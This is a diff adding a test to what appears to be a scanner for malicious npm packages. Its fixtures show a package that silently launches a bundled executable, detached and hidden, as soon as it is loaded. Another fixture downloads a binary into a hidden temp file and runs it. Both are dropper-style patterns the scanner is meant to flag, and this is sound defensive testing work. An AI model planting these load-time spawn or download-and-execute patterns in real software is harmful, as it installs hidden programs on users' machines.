@@ -256,6 +256,14 @@ module.exports = {};
     expect(encoded.findings.find((f) => f.messageId === 'dropper')?.weight).toBeLessThan(70);
   });
 
+  it('a program the package ships, started detached when it loads, runs on in the background; started for a caller and awaited it is a tool (TurkoRat)', () => {
+    const files = (at: string) => ({ 'index.js': `const { spawn } = require('child_process'), path = require('path');\n${at}\nmodule.exports = { run };\n`, 'lib/bin/agent-helper.exe': 'MZ' });
+    const load = scan(files("spawn(path.join(__dirname, 'lib', 'bin', 'agent-helper.exe'), [], { detached: true, stdio: 'ignore', windowsHide: true }).unref();\nfunction run() {}"), { main: 'index.js' });
+    expect(load.findings.find((f) => f.messageId === 'backgroundProgram')?.weight).toBeGreaterThanOrEqual(50);
+    const tool = scan(files("function run(args) { return spawn(path.join(__dirname, 'lib', 'bin', 'agent-helper.exe'), args, { stdio: 'inherit' }); }"), { main: 'index.js' });
+    expect(tool.ids).not.toContain('remote-code/backgroundProgram');
+  });
+
   it('a downloaded program started detached weighs like a dropper; a binary installer that waits for what it fetched keeps its low weight', () => {
     const program = (options: string) => `const https = require('https'), fs = require('fs'), os = require('os'), path = require('path');\nconst { spawn } = require('child_process');\nconst dst = path.join(os.tmpdir(), '.agent');\nhttps.get('https://cdn.tools.example.org/d/' + process.platform, (res) => {\n  const chunks = [];\n  res.on('data', (c) => chunks.push(c));\n  res.on('end', () => { fs.writeFileSync(dst, Buffer.concat(chunks), { mode: 0o755 }); spawn(dst, ['--version'], ${options}); });\n});\n`;
     const weight = (r: ReturnType<typeof scan>) => r.findings.find((f) => f.messageId === 'download')?.weight ?? 0;
